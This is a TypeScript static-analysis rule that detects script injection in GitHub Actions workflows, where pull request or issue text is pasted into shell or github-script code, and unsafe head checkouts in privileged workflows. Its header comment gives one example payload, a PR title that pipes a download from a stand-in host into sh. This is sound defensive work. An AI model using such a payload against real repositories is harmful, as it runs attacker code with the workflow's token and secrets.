/**
 * What: GitHub Actions expressions that paste attacker-controlled event text (issue and pull request titles and
 * bodies, comment and review bodies, head branch names, commit messages) into a `run:` script or the `script`
 * of actions/github-script; and `pull_request_target`/`workflow_run` workflows that check out the pull
 * request's head and then run steps over it.
 * Why: `${{ }}` is substituted into the script text before the shell or Node reads it, so a PR titled
 * `"; curl evil | sh; "` runs with the workflow's token and secrets.
 * Quiet on: the same expressions in `env:` (the fix), in `with:` inputs of other actions, in `if:`; trusted
 * contexts (`github.sha`, `github.event.pull_request.number`); `pull_request_target` checkouts of the base.
 */
import { isMap, isPair, isScalar, isSeq, type Node, type YAMLMap } from 'yaml';
import type { ConfigFile } from '../src/engine/config-files.js';
import { defineConfigRule } from '../src/rules-api/define-rule.js';
import type { ConfigReport } from '../src/rules-api/rule-types.js';

type MessageId = 'scriptInjection' | 'untrustedCheckout';

const EXPRESSION = /\$\{\{([^}]|\}(?!\}))*\}\}/g;
/** Event fields whoever opens an issue, a pull request, a comment or pushes a branch chooses. */
const UNTRUSTED_CONTEXT = new RegExp(
  [
    String.raw`github\.head_ref`,
    String.raw`github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)`,
    String.raw`github\.event\.(?:comment|review|review_comment)\.body`,
    String.raw`github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)`,
    String.raw`github\.event\.(?:workflow_run\.)?head_commit\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title)`,
    String.raw`github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name`,
  ].join('|'),
);
/** Refs naming the pull request's own code in a privileged workflow. */
const PR_HEAD_REF = /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch)|refs\/pull\//;
const PRIVILEGED_TRIGGERS = new Set(['pull_request_target', 'workflow_run']);

export const githubActionsScriptInjection = defineConfigRule<MessageId>({
  id: 'github-actions-script-injection',
  title: 'GitHub Actions workflow runs text or code from a pull request or issue',
  cwe: ['CWE-78', 'CWE-94', 'CWE-829'],
  owasp: { 2021: ['A03:2021', 'A08:2021'], 2025: ['A05:2025', 'A03:2025'] },
  severity: 'high',
  precision: 'high',
  help: 'Pass event text to scripts through `env:` and quote the variable ("$TITLE"); in pull_request_target and workflow_run workflows never check out and run the pull request\'s head.',
  messages: {
    scriptInjection: '`{{expression}}` is pasted into the {{place}} before it runs, so whoever writes that text runs commands with the workflow\'s token; pass it through `env:` and use the quoted variable instead.',
    untrustedCheckout: 'A {{trigger}} workflow checks out the pull request\'s code (`{{ref}}`) and runs steps over it with the base repository\'s secrets and write token; use a `pull_request` workflow for untrusted code instead.',
  },
  configFile: { kinds: ['github-workflow'], check: checkWorkflow },
});

function checkWorkflow(file: ConfigFile, report: (descriptor: ConfigReport<MessageId>) => void): void {
  const root = file.yaml?.contents;
  if (!isMap(root)) return;
  const triggers = triggerNames(root.get('on', true) ?? null);
  const jobs = root.get('jobs', true);
  if (!isMap(jobs)) return;
  for (const jobPair of jobs.items) {
    const job = jobPair.value;
    if (!isMap(job)) continue;
    const steps = job.get('steps', true);
    if (!isSeq(steps)) continue;
    let checkout: { ref: string; range: readonly [number, number] } | null = null;
    for (const step of steps.items) {
      if (!isMap(step)) continue;
      scriptPlaces(step).forEach(({ node, place }) => reportExpressions(file, node, place, report));
      const uses = scalarText(step.get('uses', true) ?? null) ?? '';
      if (checkout === null && uses.startsWith('actions/checkout@')) checkout = headCheckout(step);
      else if (checkout !== null && (step.has('run') || (uses !== '' && !uses.startsWith('actions/')))) {
        const trigger = [...triggers].find((name) => PRIVILEGED_TRIGGERS.has(name));
        if (trigger !== undefined) report({ range: checkout.range, messageId: 'untrustedCheckout', data: { trigger, ref: checkout.ref } });
        checkout = null;
      }
    }
  }
}

/** `run:` of a step, and `with.script` of actions/github-script. */
function scriptPlaces(step: YAMLMap): { node: Node; place: string }[] {
  const places: { node: Node; place: string }[] = [];
  const run = step.get('run', true);
  if (isScalar(run)) places.push({ node: run, place: 'shell script' });
  const uses = scalarText(step.get('uses', true) ?? null) ?? '';
  const inputs = step.get('with', true);
  if (uses.startsWith('actions/github-script@') && isMap(inputs)) {
    const script = inputs.get('script', true);
    if (isScalar(script)) places.push({ node: script, place: 'github-script code' });
  }
  return places;
}

function reportExpressions(file: ConfigFile, node: Node, place: string, report: (descriptor: ConfigReport<MessageId>) => void): void {
  const range = node.range;
  if (range === undefined || range === null) return;
  const text = file.source.slice([range[0], range[1]]);
  for (const match of text.matchAll(EXPRESSION)) {
    if (!UNTRUSTED_CONTEXT.test(match[0])) continue;
    const start = range[0] + (match.index ?? 0);
    report({ range: [start, start + match[0].length], messageId: 'scriptInjection', data: { expression: match[0], place } });
  }
}

/** A checkout step whose `ref` (or `repository`) names the pull request's head. */
function headCheckout(step: YAMLMap): { ref: string; range: readonly [number, number] } | null {
  const inputs = step.get('with', true);
  if (!isMap(inputs)) return null;
  for (const key of ['ref', 'repository']) {
    const value = inputs.get(key, true);
    const text = scalarText(value ?? null);
    if (text === null || !isScalar(value) || !PR_HEAD_REF.test(text) || value.range === undefined || value.range === null) continue;
    return { ref: text, range: [value.range[0], value.range[1]] };
  }
  return null;
}

function triggerNames(on: unknown): Set<string> {
  if (isScalar(on)) return new Set([String(on.value)]);
  if (isSeq(on)) return new Set(on.items.flatMap((item) => (isScalar(item) ? [String(item.value)] : [])));
  if (isMap(on)) return new Set(on.items.flatMap((pair) => (isPair(pair) && isScalar(pair.key) ? [String(pair.key.value)] : [])));
  return new Set();
}

function scalarText(node: unknown): string | null {
  return isScalar(node) && (typeof node.value === 'string' || typeof node.value === 'number') ? String(node.value) : null;
}
